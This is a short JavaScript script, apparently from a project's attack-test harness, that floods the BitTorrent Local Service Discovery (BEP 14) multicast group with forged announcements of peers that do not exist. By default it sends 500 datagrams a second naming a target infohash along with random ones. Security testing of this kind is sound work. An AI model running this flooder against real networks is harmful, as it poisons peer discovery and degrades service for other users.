/** Local announcements (BEP 14) of peers that are not there: `lsd-flood.js TARGET NUMBER`, so many a second. */
import { randomBytes } from 'node:crypto'
import { encodeLsd, lsdGroup, lsdPort } from '../../../server/swarm/lsd-packet.js'
import { target, words } from '../client/attacker.js'
import { flood } from '../client/datagrams.js'

const [perS = '500'] = words
const sourcePorts = 16

flood(
  () => [{ host: lsdGroup, port: lsdPort }],
  sourcePorts,
  Number(perS),
  () => {
    const others = Array.from({ length: 19 }, () => randomBytes(20).toString('hex'))
    const port = 1024 + (randomBytes(2).readUInt16BE(0) % 60_000)
    const [datagram] = encodeLsd({
      port,
      infohashes: [target.infohash, ...others],
      cookie: randomBytes(4).toString('hex'),
    })
    return datagram ?? Buffer.alloc(0)
  },
)
